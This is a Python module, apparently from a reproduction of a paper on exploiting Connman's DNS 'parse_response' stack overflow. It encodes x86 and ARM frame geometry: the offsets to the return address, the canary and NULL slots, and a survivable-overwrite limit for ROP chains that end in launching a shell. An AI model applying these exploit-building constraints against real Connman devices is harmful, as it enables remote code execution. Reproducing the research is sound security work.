"""Stack-frame geometry of ``parse_response`` on each architecture.

These models encode every frame fact the paper's exploits depend on:

* the 1024-byte ``name`` buffer and the distance to the saved return
  address (discovered with gdb in the paper, with
  :class:`repro.exploit.recon.Debugger` here);
* **ARM NULL slots** (§III-A2): two locals between the buffer and the saved
  registers that Connman checks against NULL before its ``pop {pc}`` —
  payloads must write zeros there;
* **ARM check slots** (§III-B2/C2): two caller-frame words *above* the
  return slot that ``parse_rr`` dereferences after ``get_name`` returns —
  they land on the r5/r6 placeholder positions of the first ROP frame and
  must be NULL or mapped addresses, which is why the paper's chains carry
  "placeholder" values;
* the **overwrite horizon** (§III-C2): how many bytes past the return slot
  survive until the function returns, before legitimate writes by the
  still-running daemon clobber the rest.  On ARM this is what limits the
  chain to three calls ("copy only ``sh``").
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Tuple

#: Size of the `name` buffer in parse_response (pre-defined limit, §II).
NAME_BUFFER_SIZE = 1024


@dataclass(frozen=True)
class FrameModel:
    arch: str
    #: Bytes of other locals between the end of `name` and the saved regs.
    locals_size: int
    #: Callee-saved registers restored by the epilogue, lowest address first.
    saved_registers: Tuple[str, ...]
    #: Offsets (from `name`) of locals that must be NULL before the return.
    null_slot_offsets: Tuple[int, ...]
    #: Offsets (from the return slot) that parse_rr dereferences:
    #: consecutive words, lowest first.
    check_slot_offsets: Tuple[int, ...]
    #: Bytes past the return slot that survive; beyond this the daemon's own
    #: writes clobber the stack before the hijacked return executes.
    overwrite_horizon: int
    clobber_length: int = 64
    #: Distance from the stack top at which the frame's return slot sits.
    ret_slot_from_stack_top: int = 0x300
    #: Size of the overflowable buffer (Connman: the 1024-byte `name`).
    buffer_size: int = NAME_BUFFER_SIZE

    def __post_init__(self) -> None:
        checks = self.check_slot_offsets
        if any(high - low != 4 for low, high in zip(checks, checks[1:])):
            raise ValueError(f"check slots {checks} are not consecutive words")

    @property
    def saved_area_size(self) -> int:
        return 4 * len(self.saved_registers)

    @property
    def ret_offset(self) -> int:
        """Distance from the start of `name` to the saved return address."""
        return self.buffer_size + self.locals_size + self.saved_area_size

    @property
    def canary_offset(self) -> int:
        """Canary slot: just above the locals, below the saved registers."""
        return self.buffer_size + self.locals_size - 4

    def describe(self) -> str:
        return (
            f"{self.arch}: name[{self.buffer_size}] +{self.locals_size} locals "
            f"+{self.saved_area_size} saved {self.saved_registers} -> ret at "
            f"name+{self.ret_offset}, horizon {self.overwrite_horizon}"
        )


X86_FRAME = FrameModel(
    arch="x86",
    locals_size=12,
    saved_registers=("ebp",),
    null_slot_offsets=(),
    check_slot_offsets=(),
    # x86 frames gave the paper room for the full 7-character memcpy chain.
    overwrite_horizon=400,
)

ARM_FRAME = FrameModel(
    arch="arm",
    locals_size=16,
    saved_registers=("r4", "r5", "r6", "r7"),
    # Two locals checked against NULL prior to the pop {pc} (§III-A2).
    null_slot_offsets=(NAME_BUFFER_SIZE + 4, NAME_BUFFER_SIZE + 8),
    # parse_rr dereferences ret+20 and ret+24: the r5/r6 placeholder slots
    # of a first __restore_ctx frame (pops r0,r1,r2,r3 then r5 at +20).
    check_slot_offsets=(20, 24),
    # Three calls survive (2 memcpy frames + the execlp frame end at
    # ret+115); a fourth memcpy frame would start at ret+120 and is
    # clobbered — the "copy only sh" limit.
    overwrite_horizon=120,
)

FRAME_MODELS = {"x86": X86_FRAME, "arm": ARM_FRAME}


def frame_model(arch: str) -> FrameModel:
    try:
        return FRAME_MODELS[arch]
    except KeyError:
        raise ValueError(f"no frame model for architecture {arch!r}") from None
